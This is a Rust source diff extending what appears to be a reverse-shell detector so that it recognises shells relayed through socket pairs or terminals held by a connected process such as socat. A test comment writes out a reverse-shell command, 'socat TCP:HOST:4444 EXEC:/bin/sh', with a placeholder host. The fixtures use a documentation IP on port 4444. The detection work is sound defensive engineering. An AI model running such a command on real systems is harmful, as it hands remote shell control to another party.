@@ -2,8 +2,10 @@
 //!
 //! Direct: standard input and standard output are the same connected socket.
 //! Indirect: pipes lead from the shell's output to a process that holds a
-//! connection, and from such a process to the shell's input. Both are decided here
-//! by value; what the descriptors are is looked up by `interpreters`.
+//! connection, and from such a process to the shell's input. Relayed: both are one end
+//! of a pair of sockets, or one terminal, whose other end is held by a process that
+//! has one connection, which it has made itself. All are decided here by value; what
+//! the descriptors are is looked up by `interpreters`.
 
 use std::collections::{HashMap, HashSet};
 
@@ -36,9 +38,24 @@ impl Standard {
         self.0[1..].iter().filter_map(|descriptor| pipe(descriptor.as_ref()))
     }
 
+    /// The one terminal that is both input and output.
+    fn terminal(&self) -> Option<u32> {
+        match &self.0[..2] {
+            [Some(Descriptor::Terminal(input)), Some(Descriptor::Terminal(output))] => {
+                (input == output).then_some(*input)
+            }
+            _ => None,
+        }
+    }
+
     /// Whether a way over pipes to a connection is thinkable.
-    pub(super) fn is_piped(&self) -> bool {
+    fn is_piped(&self) -> bool {
         self.input_pipe().is_some() && self.output_pipes().next().is_some()
+    }
+
+    /// Whether somebody else can hold the connection.
+    pub(super) fn may_be_relayed(&self) -> bool {
+        self.is_piped() || self.socket().is_some() || self.terminal().is_some()
     }
 }
 
@@ -52,15 +69,23 @@ fn pipe(descriptor: Option<&Descriptor>) -> Option<Pipe> {
 /// A pipe or FIFO, by its inode.
 pub(super) type Pipe = (u64, u64);
 
-/// A process of the shell's container, as far as pipes go.
+/// A process of the shell's container, as far as it may hold other ends.
 #[derive(Clone, Debug, Default)]
 pub(super) struct Neighbour {
     pub(super) name: String,
     /// The pipes that it has open for reading and for writing.
     pub(super) reads: Vec<Pipe>,
     pub(super) writes: Vec<Pipe>,
+    /// The sockets that it has open and that are no connections.
+    pub(super) sockets: Vec<u64>,
+    /// The terminals that it types into.
+    pub(super) terminals: Vec<u32>,
     /// The other end of a connection that it holds.
     pub(super) connection: Option<String>,
+    /// It holds no other one, and has not accepted it. What serves people (sshd,
+    /// terminals in a browser) accepts its connections, and a supervisor that has
+    /// commands to give has several.
+    pub(super) is_relay: bool,
 }
 
 /// Recognises a shell by the pipes around it: what it writes reaches a process
@@ -89,6 +114,21 @@ pub(super) fn piped(shell: &Standard, others: &[Neighbour]) -> Option<String> {
              its output is a pipe to {to_name}, which is connected to {to}"
         )
     })
+}
+
+/// Recognises a shell whose input and output are one end of something of which a relay
+/// holds the other one. The kernel numbers both sockets of a pair in one go.
+pub(super) fn relayed(shell: &Standard, others: &[Neighbour]) -> Option<String> {
+    let (socket, terminal) = (shell.socket(), shell.terminal());
+    let is_pair = |other: &u64| socket.is_some_and(|socket| socket.abs_diff(*other) == 1);
+    let holds_other_end = |other: &Neighbour| {
+        other.sockets.iter().any(is_pair)
+            || terminal.is_some_and(|terminal| other.terminals.contains(&terminal))
+    };
+    let relay = others.iter().find(|other| other.is_relay && holds_other_end(other))?;
+    let (name, remote) = (&relay.name, relay.connection.as_deref()?);
+    let what = if socket.is_some() { "pair of sockets" } else { "terminal" };
+    Some(format!("its input and output are a {what} to {name}, which is connected to {remote}"))
 }
 
 /// The first process with a connection along the pipes.
@@ -130,6 +170,7 @@ mod tests {
     fn standard(text: &str) -> Standard {
         let mut words = text.split(' ').map(|word| match word.split_once(':') {
             Some(("socket", number)) => Some(Descriptor::Socket(number.parse().unwrap())),
+            Some(("terminal", number)) => Some(Descriptor::Terminal(number.parse().unwrap())),
             Some(("pipe", number)) => {
                 Some(Descriptor::Pipe { device: 1, inode: number.parse().unwrap() })
             }
@@ -145,7 +186,36 @@ mod tests {
             reads: pipes(reads),
             writes: pipes(writes),
             connection: connection.map(ToOwned::to_owned),
+            ..Neighbour::default()
         }
+    }
+
+    /// Holds the other ends of these, and a connection.
+    fn relay(sockets: &[u64], terminals: &[u32]) -> Neighbour {
+        Neighbour {
+            sockets: sockets.to_vec(),
+            terminals: terminals.to_vec(),
+            is_relay: true,
+            ..other("socat", &[], &[], Some("192.0.2.1:4444"))
+        }
+    }
+
+    #[test]
+    fn a33_a_relay_holds_the_other_end() {
+        // socat TCP:HOST:4444 EXEC:/bin/sh, and with `,pty`
+        let told = |text, relay| relayed(&standard(text), &[other("sh", &[], &[], None), relay]);
+        let text = "its input and output are a pair of sockets to socat, which is connected to \
+                    192.0.2.1:4444";
+        assert_eq!(told("socket:8 socket:8 -", relay(&[7], &[])).as_deref(), Some(text));
+        assert!(told("socket:8 socket:8 -", relay(&[9], &[])).is_some());
+        assert!(told("terminal:2 terminal:2 terminal:2", relay(&[], &[2])).is_some());
+        // Somebody else's.
+        assert_eq!(told("socket:8 socket:8 -", relay(&[6, 10], &[8])), None);
+        assert_eq!(told("terminal:2 terminal:2 -", relay(&[1, 3], &[3])), None);
+        // Three pairs are how programs run others; and a service accepts.
+        assert_eq!(told("socket:8 socket:10 socket:12", relay(&[7, 9, 11], &[])), None);
+        let service = Neighbour { is_relay: false, ..relay(&[7], &[2]) };
+        assert_eq!(told("terminal:2 terminal:2 -", service), None);
     }
 
     #[test]
@@ -191,7 +261,7 @@ mod tests {
             [other("curl", &[], &[1], Some("192.0.2.1:80")), other("tee", &[2], &[], None)];
         assert_eq!(piped(&shell, &others), None);
         let only_input = standard("pipe:1 tty tty");
-        assert!(!only_input.is_piped());
+        assert!(!only_input.may_be_relayed());
         assert_eq!(piped(&only_input, &others), None);
     }
 
